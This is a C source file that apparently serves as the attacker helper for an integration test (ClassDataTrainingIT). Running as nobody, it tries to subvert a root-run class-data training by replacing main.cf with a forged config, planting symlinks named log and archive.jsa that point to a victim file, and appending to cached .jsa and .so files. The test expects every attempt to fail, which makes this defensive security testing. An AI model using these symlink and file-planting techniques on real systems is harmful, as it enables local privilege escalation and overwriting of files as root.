/*
 * The attacker of ClassDataTrainingIT: a local user (run as nobody) who tries to plant what a
 * root-run class-data training reads or writes. Usage: cds-planter TMPDIR CACHE VICTIM STOPFILE.
 *
 * Until STOPFILE exists (60 s at most) it polls, and
 *  - in every training directory it can enter (TMPDIR/jmaster-cds.*, CACHE/.train.*, and their w/):
 *    replaces main.cf with its own (maillog_file = VICTIM), and plants log and archive.jsa as
 *    symlinks to VICTIM;
 *  - in CACHE and CACHE/jni-* (and CACHE/jni): appends "PLANTED" to every file it can open for
 *    writing, making files it owns writable first, and tries to create a file of its own.
 * Every success is a line on standard output ("wrote PATH", "created PATH", "replaced PATH",
 * "symlinked PATH"); the test expects none.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *victim;

/* each success once, so the report stays short */
static void say(const char *what, const char *path) {
    static char *seen[512];
    static unsigned n;
    char line[4200];
    snprintf(line, sizeof line, "%s %s", what, path);
    for (unsigned i = 0; i < n; i++) {
        if (strcmp(seen[i], line) == 0) {
            return;
        }
    }
    if (n < sizeof seen / sizeof seen[0]) {
        seen[n++] = strdup(line);
    }
    printf("%s\n", line);
    fflush(stdout);
}

static void plant_in_training_dir(const char *dir) {
    char path[4096], tmp[4096];
    snprintf(path, sizeof path, "%s/main.cf", dir);
    snprintf(tmp, sizeof tmp, "%s/.planted.cf", dir);
    int fd = open(tmp, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd >= 0) {
        dprintf(fd, "queue_directory = %s\nmail_owner = nobody\nmaillog_file = %s\n", dir, victim);
        close(fd);
        if (rename(tmp, path) == 0) {
            say("replaced", path);
        } else {
            unlink(tmp);
        }
    }
    const char *links[] = {"log", "archive.jsa"};
    for (unsigned i = 0; i < sizeof links / sizeof links[0]; i++) {
        snprintf(path, sizeof path, "%s/%s", dir, links[i]);
        if (symlink(victim, path) == 0) {
            say("symlinked", path);
        }
    }
}

static void write_into(const char *path) {
    struct stat st;
    if (lstat(path, &st) != 0 || !S_ISREG(st.st_mode)) {
        return;
    }
    if (st.st_uid == geteuid()) {
        chmod(path, 0644);
    }
    int fd = open(path, O_WRONLY | O_APPEND | O_NOFOLLOW);
    if (fd >= 0) {
        if (write(fd, "PLANTED", 7) == 7) {
            say("wrote", path);
        }
        close(fd);
    }
}

static void scan_cache(const char *cache, int depth) {
    DIR *d = opendir(cache);
    if (d == NULL) {
        return;
    }
    char path[4096];
    snprintf(path, sizeof path, "%s/planted-by-nobody", cache);
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd >= 0) {
        close(fd);
        say("created", path);
    }
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0) {
            continue;
        }
        snprintf(path, sizeof path, "%s/%s", cache, e->d_name);
        if (strncmp(e->d_name, ".train.", 7) == 0) {
            plant_in_training_dir(path);
            char w[4096];
            snprintf(w, sizeof w, "%s/w", path);
            plant_in_training_dir(w);
        } else if (depth == 0 && strncmp(e->d_name, "jni", 3) == 0) {
            scan_cache(path, 1);
        } else if (strstr(e->d_name, ".jsa") != NULL || strstr(e->d_name, ".so") != NULL) {
            write_into(path);
        }
    }
    closedir(d);
}

static void scan_tmp(const char *tmpdir) {
    DIR *d = opendir(tmpdir);
    if (d == NULL) {
        return;
    }
    struct dirent *e;
    char path[4096];
    while ((e = readdir(d)) != NULL) {
        if (strncmp(e->d_name, "jmaster-cds.", 12) == 0) {
            snprintf(path, sizeof path, "%s/%s", tmpdir, e->d_name);
            plant_in_training_dir(path);
        }
    }
    closedir(d);
}

int main(int argc, char **argv) {
    if (argc != 5) {
        fprintf(stderr, "usage: cds-planter TMPDIR CACHE VICTIM STOPFILE\n");
        return 2;
    }
    victim = argv[3];
    time_t end = time(NULL) + 60;
    while (access(argv[4], F_OK) != 0 && time(NULL) < end) {
        scan_tmp(argv[1]);
        scan_cache(argv[2], 0);
        usleep(1000);
    }
    /* once more after the training: what it left behind */
    scan_cache(argv[2], 0);
    return 0;
}
